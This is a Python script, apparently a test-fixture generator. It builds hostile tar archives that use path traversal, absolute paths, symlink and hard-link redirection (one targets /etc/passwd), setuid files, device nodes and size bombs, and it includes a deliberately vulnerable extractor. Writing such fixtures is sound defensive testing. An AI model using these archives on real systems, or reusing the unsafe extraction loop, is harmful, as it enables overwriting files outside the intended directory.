#!/usr/bin/env python3
"""Tar archives as strangers make them, and an extractor that believes them.

  archives.py make NAME FILE VICTIM    writes the archive NAME; VICTIM is a directory outside of the tree it is unpacked to
  archives.py naive FILE DIRECTORY     unpacks by joining names, as a plain loop would
"""
import io
import os
import sys
import tarfile


class Maker:
    def __init__(self, path, fmt=tarfile.GNU_FORMAT):
        self.tar = tarfile.open(path, "w", format=fmt)

    def add(self, name, kind=tarfile.REGTYPE, data=b"", link="", mode=0o644, **more):
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.mode, info.size = kind, link, mode, len(data)
        for key, value in more.items():
            setattr(info, key, value)
        self.tar.addfile(info, io.BytesIO(data))

    def directory(self, name, mode=0o755, **more):
        self.add(name, tarfile.DIRTYPE, mode=mode, **more)


EVIL = b"pwned\n"


def attacks(m, victim):
    """One function for each name: members that a naive extractor turns into a change in VICTIM."""
    up = "../" + os.path.basename(victim)
    file, symlink, hard = m.add, lambda n, t: m.add(n, tarfile.SYMTYPE, link=t), lambda n, t: m.add(n, tarfile.LNKTYPE, link=t)

    def dotdot():
        file(up + "/new", data=EVIL)

    def dotdot_inside():
        m.directory("a")
        file("./a/../" + up + "/new", data=EVIL)

    def absolute():
        file(victim + "/new", data=EVIL)

    def through_symlink():
        symlink("d", victim)
        file("d/new", data=EVIL)

    def through_relative_symlink():
        m.directory("a")
        symlink("a/d", "../" + up)
        file("a/d/new", data=EVIL)

    def through_two_symlinks():
        symlink("one", "..")
        symlink("two", "one/" + os.path.basename(victim))
        file("two/new", data=EVIL)

    def directory_through_symlink():
        symlink("d", victim)
        m.directory("d/new")

    def symlink_through_symlink():
        symlink("d", victim)
        symlink("d/new", "/etc/passwd")

    def over_symlink():
        symlink("f", victim + "/file")
        file("f", data=EVIL)

    def hard_link_absolute():
        hard("f", victim + "/file")
        file("f", data=EVIL)

    def hard_link_dotdot():
        hard("f", up + "/file")
        file("f", data=EVIL)

    def hard_link_through_symlink():
        symlink("d", victim)
        hard("f", "d/file")
        file("f", data=EVIL)

    def mode_through_symlink():
        symlink("d", victim)
        m.directory("d", mode=0o777)

    def directory_into_symlink():
        m.directory("d")
        symlink("d", victim)
        file("d/new", data=EVIL)

    return {f.__name__: f for f in (dotdot, dotdot_inside, absolute, through_symlink, through_relative_symlink,
                                    through_two_symlinks, directory_through_symlink, symlink_through_symlink, over_symlink,
                                    hard_link_absolute, hard_link_dotdot, hard_link_through_symlink, mode_through_symlink,
                                    directory_into_symlink)}


def others(m):
    """Archives that are odd, too large, or refused for another reason."""
    file, symlink = m.add, lambda n, t: m.add(n, tarfile.SYMTYPE, link=t)

    def setuid():
        file("s", data=b"#!/bin/sh\n", mode=0o6755)
        m.directory("shared", mode=0o3775)

    def special():
        file("dev/zero", tarfile.CHRTYPE, devmajor=1, devminor=5)
        file("disk", tarfile.BLKTYPE, devmajor=8, devminor=0)
        file("run/pipe", tarfile.FIFOTYPE)
        file("f", data=b"x")

    def bomb():
        info = tarfile.TarInfo("big")
        info.size = 1 << 44
        m.tar.fileobj.write(info.tobuf(tarfile.GNU_FORMAT))

    def many():
        for i in range(40):
            file("n%d" % i)

    def sizes():
        file("a", data=b"x" * 600000)
        file("b", data=b"x" * 600000)

    def file_over_directory():
        m.directory("d")
        file("d/x")
        file("d", data=EVIL)

    def directory_over_file():
        file("d", data=EVIL)
        file("d/x")

    def symlink_over_directory():
        m.directory("d")
        symlink("d", "/")

    def hard_link_to_nothing():
        m.add("f", tarfile.LNKTYPE, link="g")

    def hard_link_to_directory():
        m.directory("d")
        m.add("f", tarfile.LNKTYPE, link="d")

    def hard_link_to_itself():
        file("f")
        m.add("f", tarfile.LNKTYPE, link="./f")

    def root_is_a_link():
        symlink("./", "/etc")

    def long_component():
        file("n" * 256)

    def long_path():
        file("/".join(["d" * 50] * 100))

    def deep():
        file("/".join(["d"] * 200))

    def escape_sequence():
        file("../\033[31mred\n\007")

    def nothing():
        pass

    def twice():
        file("f", data=b"first")
        symlink("f", "g")
        file("f", data=b"last")
        m.directory("d", mode=0o700)
        file("d/x", data=b"x")
        m.directory("d", mode=0o750)

    def long_names():
        file("/".join(["directory-%02d-%s" % (i, "x" * 60) for i in range(20)]) + "/" + "f" * 255, data=b"long")
        symlink("link", "t" * 3000)

    def without_parents():
        file("a/b/c/f", data=b"x")
        m.add("z/h", tarfile.LNKTYPE, link="./a//b/c/f")

    def utf8():
        file("gr\u00fc\u00df-\u65e5\u672c", data=b"x")

    def owners():
        file("of-33", data=b"x", uid=33, gid=34, mode=0o640)
        m.directory("dir-of-100", uid=100, gid=0, mode=0o700)
        file("dir-of-100/f", uid=100, gid=0, data=b"x")
        m.add("link", tarfile.SYMTYPE, link="f", uid=5, gid=5)

    def owner_too_large():
        file("f", data=b"x", uid=1900000, gid=0)

    return {f.__name__: f for f in (setuid, special, bomb, many, sizes, file_over_directory, directory_over_file,
                                    symlink_over_directory, hard_link_to_nothing, hard_link_to_directory, hard_link_to_itself,
                                    root_is_a_link, long_component, long_path, deep, escape_sequence, nothing, twice, long_names,
                                    without_parents, utf8, owners, owner_too_large)}


def naive(path, directory):
    """What a loop over the members does: it joins names and lets the kernel follow what is there."""
    os.makedirs(directory, exist_ok=True)
    for member in tarfile.open(path):
        to = os.path.join(directory, member.name)
        os.makedirs(os.path.dirname(to), exist_ok=True)
        if member.isdir():
            os.makedirs(to, exist_ok=True)
            os.chmod(to, member.mode)
        elif member.issym():
            if os.path.isdir(to):
                os.rmdir(to)
            os.symlink(member.linkname, to)
        elif member.islnk():
            os.link(os.path.join(directory, member.linkname), to)
        elif member.isfifo():
            os.mkfifo(to)
        elif member.isfile():
            with open(to, "wb") as out:
                out.write(tarfile.open(path).extractfile(member).read() if member.size < 1 << 30 else b"")
                out.truncate(member.size)
            os.chmod(to, member.mode)


if sys.argv[1] == "list":
    print("\n".join(attacks(None, "/x")))
elif sys.argv[1] == "naive":
    naive(sys.argv[2], sys.argv[3])
else:
    maker = Maker(sys.argv[3], tarfile.PAX_FORMAT if sys.argv[2] == "utf8" else tarfile.GNU_FORMAT)
    {**attacks(maker, sys.argv[4]), **others(maker)}[sys.argv[2]]()
    maker.tar.close()
